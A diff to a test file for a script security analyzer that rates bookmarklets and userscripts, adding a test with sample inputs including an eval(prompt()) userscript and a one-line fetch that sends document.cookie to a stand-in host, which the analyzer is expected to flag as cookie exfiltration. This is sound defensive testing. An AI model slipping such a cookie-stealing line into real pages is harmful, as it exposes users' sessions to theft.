@@ -1,5 +1,7 @@
 import { fail, succeed } from "@scriptorium/core-types/errors";
+import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
 import { describe, expect, it } from "vitest";
+import { withAnswers } from "../_shared/rating/with-answers.ts";
 import { handleAnalyzeSecurity } from "./handler.ts";
 import { ask, makePorts, personId, rated, sessionToken, versionId } from "./ports.test-support.ts";
 
@@ -10,13 +12,34 @@ describe("code", () => {
 	it("is answered and not stored, and counted against who asks", async () => {
 		const fixture = makePorts();
 		const answered = await ask(fixture, { code: "alert(1)", title: "Hello" }, visitor);
-		expect(answered).toEqual({ status: 200, body: rated({ summary: "About Hello." }) });
-		expect((await ask(fixture, { code: "alert(1)" }, signedIn)).body).toEqual(rated({ summary: "About nothing." }));
+		expect(answered).toEqual({ status: 200, body: withAnswers(rated({ summary: "About Hello." }), "bookmarklet") });
+		expect((await ask(fixture, { code: "alert(1)" }, signedIn)).body).toEqual(
+			withAnswers(rated({ summary: "About nothing." }), "bookmarklet"),
+		);
 		expect(fixture.recorded).toEqual([]);
 		expect(fixture.counted).toMatchObject([
 			{ person: null, headers: { "cf-connecting-ip": "203.0.113.7" } },
 			{ person: personId },
 		]);
+	});
+
+	it("is answered with access and verdict, for a userscript by where it runs", async () => {
+		const userscript = "// ==UserScript==\n// @name A\n// @match https://a.test/*\n// ==/UserScript==\neval(prompt())";
+		const fixture = makePorts({ ports: { analyzer: { rulesVersion: "test-1", analyze: analyzeScript } } });
+		expect((await ask(fixture, { code: userscript })).body).toMatchObject({
+			risk_level: "amber",
+			access: { sites: "this-site", site_names: ["a.test"], code: "none", reads: [] },
+			verdict: { kind: "worth-a-look", part: null },
+		});
+		const read = await ask(fixture, { code: "fetch('https://c.test/' + document.cookie)" });
+		expect(read.body).toMatchObject({
+			access: { sites: "this-site", site_names: [], reads: ["cookies"], contacts: ["c.test"] },
+			verdict: { kind: "attack", grounds: [{ type: "cookie-exfiltration" }] },
+		});
+		expect((await ask(fixture, { code: "let = (;;;" })).body).toMatchObject({
+			access: null,
+			verdict: { kind: "unread" },
+		});
 	});
 
 	it("is answered to a visitor of a project whose public key is itself a token", async () => {
@@ -65,7 +88,10 @@ describe("a version", () => {
 	it("is rated and stored for whoever sees it", async () => {
 		const fixture = makePorts();
 		const result = rated({ summary: "About Sample." });
-		expect(await ask(fixture, { version_id: versionId }, signedIn)).toEqual({ status: 200, body: result });
+		expect(await ask(fixture, { version_id: versionId }, signedIn)).toEqual({
+			status: 200,
+			body: withAnswers(result, "bookmarklet"),
+		});
 		expect(fixture.recorded).toEqual([{ versionId, result, error: null }]);
 	});
 
@@ -82,7 +108,7 @@ describe("a version", () => {
 		const report = rated({ risk_level: "red", score: 3 });
 		const beginAnalysis = async () => succeed({ code: "void 0;", title: "Sample", report });
 		const fixture = makePorts({ store: { beginAnalysis } });
-		expect((await ask(fixture, { version_id: versionId }, signedIn)).body).toEqual(report);
+		expect((await ask(fixture, { version_id: versionId }, signedIn)).body).toEqual(withAnswers(report, "bookmarklet"));
 		expect(fixture.recorded).toEqual([]);
 	});
 
